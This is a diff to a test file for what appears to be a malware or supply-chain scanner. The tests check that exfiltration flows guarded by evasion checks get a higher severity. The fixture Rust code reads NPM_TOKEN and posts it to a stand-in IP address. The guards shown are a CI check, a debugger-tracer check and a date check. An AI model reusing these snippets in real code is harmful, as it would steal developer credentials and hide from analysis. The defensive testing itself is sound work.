@@ -591,25 +591,33 @@ describe('technique signals in flows, end to end', () => {
     expect(f?.evidence).toMatch(/runs: static constructor \(#\[ctor\] fn boot[^)]*\) via boot → helper/);
   });
 
-  const guarded = (gate: boolean) =>
+  const guarded = (gate: string) =>
     lib('gate', {
       'src/lib.rs': src(
         'pub fn sync_settings() {',
-        gate ? '    if std::env::var("CI").is_ok() { return; }' : '',
+        gate,
         '    let t = std::env::var("NPM_TOKEN").unwrap_or_default();',
         '    let _ = ureq::post("https://203.0.113.9/s").send_string(&t);',
         '}',
       ),
     });
-  it('an evasion check on the path raises the flow it guards', async () => {
-    const plain = flowOf(await scanFiles(guarded(false)), 'flow.exfiltration');
-    const gated = flowOf(await scanFiles(guarded(true)), 'flow.exfiltration');
-    expect(plain).toBeDefined();
-    expect(gated).toBeDefined();
-    const rank = (s: Severity) => ['info', 'low', 'medium', 'high', 'critical'].indexOf(s);
-    expect(rank(gated!.severity)).toBeGreaterThan(rank(plain!.severity));
-    expect(gated!.evidence).toMatch(/guarded by/);
-  });
+  const rank = (s: Severity) => ['info', 'low', 'medium', 'high', 'critical'].indexOf(s);
+  for (const [what, gate] of [
+    ['a CI check', '    if std::env::var("CI").is_ok() { return; }'],
+    [
+      'a tracer check',
+      '    if std::fs::read_to_string("/proc/self/status").unwrap_or_default().contains("TracerPid:\\t1") { return; }',
+    ],
+    ['a date check', '    if unix_days() < 20_600 { return; }'],
+  ])
+    it(`${what} on the path raises the flow it guards`, async () => {
+      const plain = flowOf(await scanFiles(guarded('')), 'flow.exfiltration');
+      const gated = flowOf(await scanFiles(guarded(gate!)), 'flow.exfiltration');
+      expect(plain).toBeDefined();
+      expect(gated).toBeDefined();
+      expect(rank(gated!.severity)).toBeGreaterThan(rank(plain!.severity));
+      expect(gated!.evidence).toMatch(/guarded by/);
+    });
 
   it('a hand-built SMTP dialogue is a network sink for a stolen SSH key', async () => {
     const r = await scanFiles(
